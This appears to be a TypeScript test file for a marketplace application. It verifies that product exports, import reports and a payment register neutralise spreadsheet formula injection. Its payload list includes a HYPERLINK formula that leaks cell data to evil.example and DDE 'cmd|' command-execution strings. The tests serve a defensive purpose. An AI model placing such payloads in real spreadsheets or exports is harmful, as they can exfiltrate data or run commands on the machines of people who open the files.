import { guarded } from '@vetka/domain/csv';
import { eq } from 'drizzle-orm';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { products, services } from '../../src/platform/database/schema/index.ts';
import { createDeskFixture } from '../deskFixture.ts';
import { upload } from '../goodsFiles.ts';

const { api, line, market, paid } = await createDeskFixture();

/** The ways in which a cell becomes a formula, or the beginning of one. */
const formulas = [
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|'/c calc'!A1",
  '+7+cmd|1!A1',
  '-2+3',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

/** The cells of a table as a spreadsheet reads them. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^;\r\n]*))(?:;|\r\n|$)/gy;
  for (const [, quoted, plain] of csv.replace(/^\uFEFF/, '').matchAll(pattern)) {
    cells.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
  }
  return cells;
}
const isFormula = (cell: string): boolean => /^[\s\u00A0]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell);

async function shopWith(texts: readonly string[]) {
  const shop = await market.seller();
  const { visitor } = await line.employ(shop.id, 'OWNER');
  for (const [index, text] of texts.entries()) {
    await market.product(shop, { title: `${text} букет`, description: text, careText: text, sku: `${text}${index}` });
  }
  return { shop, visitor, at: `desk/${shop.service.slug}` };
}

test('no text of a product is a formula in an exported CSV', async () => {
  const { visitor, at } = await shopWith(formulas);
  const { status, body } = await visitor.get<string>(`${at}/product-export?format=csv`);
  expect(status).toBe(200);
  expect(body).toContain('evil.example');
  expect(cellsOf(body).filter(isFormula)).toEqual([]);
});

test('no text of a product is a formula in an exported Excel file', async () => {
  const { visitor, at } = await shopWith(formulas);
  const { bytes } = await visitor.get(`${at}/product-export?format=xlsx`);
  const sheet = strFromU8(unzipSync(new Uint8Array(bytes))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(sheet).toContain('evil.example');
  expect(sheet).not.toContain('<f');
  const texts = [...sheet.matchAll(/<t [^>]*>([^<]*)<\/t>/g)].map(([, text = '']) => text);
  expect(texts.filter(isFormula)).toEqual([]);
});

test('no cell or heading of a refused import is a formula in its report', async () => {
  const { visitor, at } = await shopWith([]);
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = formulas.map((text) => [quoted(text), 'дорого', quoted(text)].join(';'));
  const { body } = await upload(visitor, at, ['Название;Цена, ₽;Описание', ...rows].join('\r\n'));
  const { body: report } = await visitor.get<string>(`${at}/product-imports/${body.id}/report`);
  expect(report).toContain('evil.example');
  expect(cellsOf(report).filter(isFormula)).toEqual([]);
});

test('no text of a shop is a formula in its register of money', async () => {
  const { owner, shop, slug } = await paid();
  await api.db.update(services).set({ name: '=1+1' }).where(eq(services.id, shop.id));
  await api.db.update(products).set({ title: '=1+1' }).where(eq(products.serviceId, shop.id));
  const { body: months } = await owner.visitor.get<{ months: { month: string }[] }>(`desk/${slug}/money/months`);
  const month = JSON.stringify(months).match(/\d{4}-\d{2}/)?.[0];
  const { status, body } = await owner.visitor.get<string>(`desk/${slug}/money/register?month=${month}&format=csv`);
  expect(status).toBe(200);
  expect(cellsOf(body).filter(isFormula)).toEqual([]);
});

test.each(formulas)('%j is a text for every table that the site makes', (text) => {
  expect(isFormula(guarded(text))).toBe(false);
});
